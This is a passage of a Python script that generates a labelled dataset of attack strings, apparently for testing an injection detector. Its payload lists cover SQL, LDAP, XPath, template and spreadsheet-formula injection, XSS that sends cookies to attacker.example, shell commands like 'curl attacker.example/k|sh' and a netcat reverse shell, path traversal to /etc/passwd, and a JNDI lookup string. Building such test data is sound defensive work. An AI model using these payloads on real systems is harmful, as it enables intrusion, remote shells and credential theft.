    "foot repaired\n1124;Trompete 8';c1;@SUM(1+1)*cmd|' /C calc'!A0;ok",
    "ok\r\nadmin,admin@attacker.example,role=owner",
    "needs revoicing\";\"\n=WEBSERVICE(\"https://attacker.example/?\"&A1)",
    "missing\n+cmd|'/c powershell -w hidden iwr attacker.example'!A1",
])

# ---------------- LDAP / XPath ----------------
add("ldap-xpath", "ldap", [
    "*)(uid=*))(|(uid=*",
    "meister)(|(password=*)",
    "admin)(&)",
    "*)(objectClass=*",
    "organist*)(memberOf=cn=admins,dc=workshop,dc=example",
    "Hartmann)(|(userPassword=a*)",
    "\\2a)(uid=\\2a",
    "x)(!(cn=nobody))(cn=*",
    "*))%00",
    "kowalski)(mail=*@attacker.example",
])
add("ldap-xpath", "xpath", [
    "' or '1'='1",
    "Principal 8'] | //stop | //*[name()='x",
    "x' or name(/*)='stoplist' or 'a'='b",
    "' or count(/users/user)>0 or '",
    "c1' and substring(//user[1]/password,1,1)='a' and '1'='1",
    "')] | //password | //*[('",
    "Oboe' or string-length(name(/*[1]))=8 or 'x'='y",
    "1 or 1=1]/parent::*/child::node()[1",
    "x' or doc('https://attacker.example/x.xml')/a or '",
    "'] | /*[1]/user[position()=1]/pw | a['",
])

# ---------------- small generated parts (hand-written pools) ----------------
PREFIX = ["Principal 8'", "HW-02-c1", "St. Marien", "Trompete 8'", "invoice 2024/088", "Kowalski", "Oboe c2", "Mixtur IV"]
SQL_PREFIX = ["HW-02-c1", "St. Marien", "invoice 2024/088", "Kowalski", "Oboe c2", "Mixtur IV"]
SQLI_POOL = ["' OR 'x'='x'-- ", "' UNION SELECT login,pw FROM staff-- ", "'; SELECT pg_sleep(6)--",
             "' AND 3=3 AND SLEEP(5)#", "') OR 1=1-- -", "' AND updatexml(1,concat(0x7e,user()),1)-- "]
XSS_POOL = ["<svg onload=alert(document.domain)>", "<img src=q onerror=fetch('//attacker.example/'+document.cookie)>",
            "\"><script>alert(7)</script>", "<iframe srcdoc=\"<script>parent.alert(1)</script>\">",
            "<a href=javascript:alert(3)>more</a>", "<body onload=alert(4)>"]
CMDI_POOL = ["; id", " && cat /etc/passwd", " | curl attacker.example/k|sh", "`sleep 8`", "$(whoami)", " || nc 198.51.100.50 443 -e /bin/sh"]
TRAV_POOL = ["/../../../../etc/passwd", "/..\\..\\..\\..\\windows\\win.ini", "/../../../../proc/self/environ"]
CODE_POOL = ["{{ cycler.__init__.__globals__.os.popen('uname -a').read() }}", "${jndi:ldap://attacker.example/q}",
             "<%= File.read('/etc/passwd') %>", "${T(java.lang.Runtime).getRuntime().exec('whoami')}"]
FILE_PREFIX = ["scan_chest", "stmarien_photo", "scale_table", "tuning_log"]
SQLI_ENC_SRC = ["Principal' OR 1=1--", "x' UNION SELECT pw FROM staff--", "c1'; DROP TABLE pipes;--", "1 AND SLEEP(5)"]
TRAV_ENC_SRC = ["../../../etc/passwd", "..\\..\\windows\\win.ini", "../../app/.env"]

def pct(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))

def gen(seen):
    out = []
    def join(cat, cls, n, prefixes, pool, sep=" "):
        # each payload used at most once, so no two joined values share a payload
        for payload in rng.sample(pool, n):
            while True:
                v = rng.choice(prefixes) + sep + payload
                if v not in seen:
                    break
            seen.add(v); out.append((cat, cls, v))
    join("sqli", "prefixed-join", 3, SQL_PREFIX, SQLI_POOL, sep="")
    for s in SQLI_ENC_SRC:
        out.append(("sqli", "tautology+urlencode" if "OR" in s else ("stacked+urlencode" if "DROP" in s else ("union+urlencode" if "UNION" in s else "time-blind+urlencode")), pct(s)))
    join("xss", "prefixed-join", 4, PREFIX, XSS_POOL)
    join("cmdi", "prefixed-join", 6, FILE_PREFIX, CMDI_POOL, sep="")
    join("traversal", "prefixed-join", 2, FILE_PREFIX, TRAV_POOL, sep="")
    for s in TRAV_ENC_SRC:
        out.append(("traversal", "dotdot+urlencode", pct(s)))
    join("code", "prefixed-join", 4, PREFIX, CODE_POOL)
    return out

ORDER = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]

def main():
    here = os.path.dirname(os.path.abspath(__file__))
    benign = set()
    bp = os.path.join(here, "benign.jsonl")
    if os.path.exists(bp):
        with open(bp, encoding="utf-8") as f:
            for line in f:
                benign.add(json.loads(line)["value"])
    seen = set()
    for c, k, v in A:
        assert v not in seen, ("dup", v)
        seen.add(v)
    generated = gen(seen)
    rows = []
    for cat in ORDER:
        rows += [r for r in A if r[0] == cat]
        rows += [r for r in generated if r[0] == cat]
    allv = set()
    with open(os.path.join(here, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            assert v not in benign, ("equals benign", v)
            assert v not in allv, ("dup", v)
            allv.add(v)
            assert 1 <= len(v) <= 2000
            assert not any(ord(ch) < 32 and ch not in "\n\r\t" for ch in v), v
            f.write(json.dumps({"id": "hakt-%05d" % i, "category": cat, "class": cls, "label": "attack", "value": v}, ensure_ascii=False) + "\n")
    from collections import Counter
    lit = Counter(c for c, _, _ in A); gc = Counter(c for c, _, _ in generated)
    for cat in ORDER:
        print(cat, lit[cat] + gc[cat], "literals", lit[cat])
    print("total", len(rows), "literals", len(A), "pct", round(100 * len(A) / len(rows), 1))

if __name__ == "__main__":
    main()
